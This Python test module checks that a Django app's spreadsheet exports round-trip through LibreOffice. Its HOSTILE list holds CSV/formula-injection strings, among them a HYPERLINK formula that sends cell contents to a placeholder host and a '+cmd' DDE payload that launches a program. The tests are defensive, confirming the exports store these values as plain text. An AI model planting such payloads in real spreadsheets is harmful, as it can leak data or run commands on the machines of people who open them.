"""The workbooks as a real spreadsheet program reads them: LibreOffice converts each export
(the ledger, a meeting's list, the quarterly report) to CSV, one file per sheet, and the rows
and cells must be the ones exported, hostile text included.

Needs Debian's libreoffice-calc-nogui (/usr/bin/soffice, or $SOFFICE_PATH). Without it the
tests skip, unless CI is set: .ci/run installs it, and there a missing LibreOffice fails.
"""

import csv
import io
import os
import shutil
import subprocess
from datetime import UTC, datetime
from pathlib import Path

import pytest
import time_machine

from issues.models import Issue
from roundtable.meetings.models import Meeting, Roundtable
from tests import factories
from tests.dashboard import world

pytestmark = [pytest.mark.django_db, pytest.mark.libreoffice]

# Every sheet (the last field, -1; LibreOffice 7.2+), comma-separated, UTF-8 (76), cells as
# stored rather than as shown, so that a number reads as a number, not as its format.
CSV_EVERY_SHEET = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"

# What broke the workbooks or their cells: XML 1.0 cannot hold U+FFFF, U+FFFE or most C0
# controls; spreadsheet programs decode a literal _x000D_; formulas must stay text.
HOSTILE = [
    "a\uffffb",
    "\ufffe",
    "_x000D_",
    "_x005F_x0041_",
    "a\x01b\x1fc",
    "=1+1",
    '=HYPERLINK("http://x/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\tindented =1+1",
    "用地审批 · 外商投资企业",
    "emoji 😀🇨🇳",
    'two\nlines, a comma and a "quote"',
]


def _in_ci() -> bool:
    return os.environ.get("CI", "").lower() not in ("", "0", "false", "no")


@pytest.fixture(scope="session")
def libreoffice(tmp_path_factory):
    """Converts xlsx bytes to {sheet name: rows} through soffice, with a profile of this
    test run's own (so it neither touches nor waits for anyone's LibreOffice)."""
    executable = os.environ.get("SOFFICE_PATH") or shutil.which("soffice") or "/usr/bin/soffice"
    if not Path(executable).exists():
        message = f"no LibreOffice at {executable}; install Debian's libreoffice-calc-nogui"
        if _in_ci():
            pytest.fail(message)
        pytest.skip(message)
    profile = tmp_path_factory.mktemp("libreoffice-profile")
    work = tmp_path_factory.mktemp("libreoffice")

    def convert(data: bytes, name: str) -> dict[str, list[list[str]]]:
        source, out = work / f"{name}.xlsx", work / name
        source.write_bytes(data)
        subprocess.run(
            [
                executable,
                f"-env:UserInstallation={profile.as_uri()}",
                "--headless",
                "--norestore",
                "--convert-to",
                CSV_EVERY_SHEET,
                "--outdir",
                str(out),
                str(source),
            ],
            check=True,
            capture_output=True,
            timeout=180,
        )
        return {
            path.stem.removeprefix(f"{name}-"): list(
                csv.reader(io.StringIO(path.read_text("utf-8"), newline=""))
            )
            for path in out.glob(f"{name}-*.csv")
        }

    return convert


def _download(client, url) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, url
    return b"".join(response.streaming_content)


TITLE = 2  # the ledger's title column


def test_the_ledger_export_reads_back_in_libreoffice(client, staff, libreoffice):
    issues = [factories.IssueFactory(title=title) for title in ["first", *HOSTILE, "last"]]
    client.force_login(staff)
    sheets = libreoffice(_download(client, "/issues/export.xlsx?sort=reference"), "ledger")
    assert list(sheets) == ["Ledger"]
    rows = sheets["Ledger"]
    assert rows[0][:3] == ["Reference", "Enterprise", "Title"]
    assert len(rows) == len(issues) + 1  # U+FFFF once made LibreOffice drop every later row
    assert [row[0] for row in rows[1:]] == [issue.reference for issue in issues]
    assert [row[TITLE] for row in rows[1:]] == ["first", *HOSTILE, "last"]


def test_a_meetings_list_reads_back_in_libreoffice(client, staff, dept_a, libreoffice):
    roundtable = Roundtable.objects.create(
        name_zh="圆桌会议", jurisdiction="District", leading_department=dept_a
    )
    meeting = Meeting.objects.create(
        roundtable=roundtable,
        kind=Meeting.Kind.QUARTERLY_ROUNDTABLE,
        topic="Q1 roundtable",
        starts_at=datetime(2026, 3, 2, 1, 30, tzinfo=UTC),
    )
    issues = [factories.IssueFactory(title=title, meeting=meeting) for title in HOSTILE]
    factories.IssueFactory(title="another meeting's issue")
    client.force_login(staff)
    sheets = libreoffice(_download(client, f"/meetings/{meeting.pk}/list.xlsx"), "meeting")
    assert list(sheets) == ["List 2026-03-02"]
    rows = sheets["List 2026-03-02"]
    assert len(rows) == len(issues) + 1
    assert [row[TITLE] for row in rows[1:]] == HOSTILE
    assert {row[4] for row in rows[1:]} == {"Meeting: 2026-03-02 Q1 roundtable"}


def test_the_quarterly_workbook_reads_back_in_libreoffice(
    client, staff, dept_a, dept_b, libreoffice
):
    with time_machine.travel(world.NOW, tick=False):
        w = world.build(dept_a, dept_b, staff)
        hostile = dict(zip(["I1", "I2", "I3", "I5", "I6", "I7"], HOSTILE[:6], strict=True))
        for name, title in hostile.items():
            Issue.objects.filter(pk=w.issues[name].pk).update(title=title)
        client.force_login(staff)
        data = _download(client, "/dashboard/report.xlsx?period=2026Q3")
    sheets = libreoffice(data, "report")
    assert sorted(sheets) == sorted(["Summary", "Departments", "Breakdowns", "Trend", "Ledger"])

    summary = {row[0]: row[1:] for row in sheets["Summary"] if row and row[0]}
    # Numbers, not text: LibreOffice writes a number's value ("8"), a text as it is ("+8").
    assert summary["Issues raised"][:3] == ["10", "2", "8"]
    assert summary["Median working days to conclusion"][:3] == ["12.5", "40", "-27.5"]
    assert summary["Concluded on time (%)"][:3] == ["75", "100", "-25"]
    assert summary["Open now"][2] == ""

    departments = {row[0]: row for row in sheets["Departments"]}
    assert departments["Department A"][1] == "6"
    assert departments["District (all issues)"][1] == "10"

    ledger = sheets["Ledger"]
    assert len(ledger) == 11 + 1  # I1–I8, I10, I11 raised in the quarter; I9 concluded in it
    titles = {row[TITLE] for row in ledger[1:]}
    assert set(hostile.values()) <= titles
